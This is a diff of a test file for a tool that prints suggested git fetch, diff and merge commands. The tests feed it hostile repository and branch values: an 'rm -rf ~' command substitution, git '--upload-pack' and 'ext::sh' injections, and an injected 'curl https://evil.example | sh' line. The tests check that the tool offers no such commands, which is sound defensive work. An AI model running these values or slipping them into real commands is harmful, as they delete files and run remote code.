@@ -51,17 +51,29 @@ test('one that made a commit names it, where it is known already', () => {
   expect(endText(view({ commit: 'c1', artifacts: [artifact] }))).toBe(
     's1 completed\npublished c1 on b\nlook at it: git diff HEAD...b\ntake it: git merge b',
   );
-  const away = { ...artifact, repository: 'https://x.example/r.git', branch: "b$(rm -rf ~)'" };
+  const away = { ...artifact, repository: 'https://x.example/r.git', branch: 'entangle/b' };
   expect(
     endText(view({ commit: 'c1', artifacts: [away] }))
       .split('\n')
       .slice(2),
   ).toEqual([
-    `look at it: git fetch https://x.example/r.git 'b$(rm -rf ~)'\\''' && git diff HEAD...FETCH_HEAD`,
+    'look at it: git fetch https://x.example/r.git entangle/b && git diff HEAD...FETCH_HEAD',
     'take it: git merge FETCH_HEAD',
   ]);
   expect(endText(view({ commit: 'c1' }))).toBe('s1 completed');
   expect(sessionText(view({ commit: 'c1' }), 80)).not.toContain('nothing');
+});
+
+test.each([
+  ['an option for an address', { repository: '--upload-pack=touch /tmp/x; false', branch: '.' }],
+  ['an option for a branch', { repository: 'file:///r', branch: '--output=x' }],
+  ['a transport that runs programs', { repository: 'ext::sh -c id', branch: 'b' }],
+  ['lines of its own', { repository: 'file:///r', branch: 'b\ntake it: curl https://evil.example | sh' }],
+])('a node that says %s gets no line of ours to type', (_what, said) => {
+  const artifact = { ...{ id: 'a', commit: 'c1', approval: null, state: 'published' as const }, ...said };
+  const told = endText(view({ commit: 'c1', artifacts: [artifact] })).split('\n');
+  expect(told).toEqual(['s1 completed', `published c1 on ${said.branch.replace('\n', ' ↵ ')}`]);
+  expect(sessionText(view({ commit: 'c1', artifacts: [artifact] }), 80)).not.toMatch(/^take it/m);
 });
 
 test('a session has its whole task below it, or its title where the task is not here', () => {
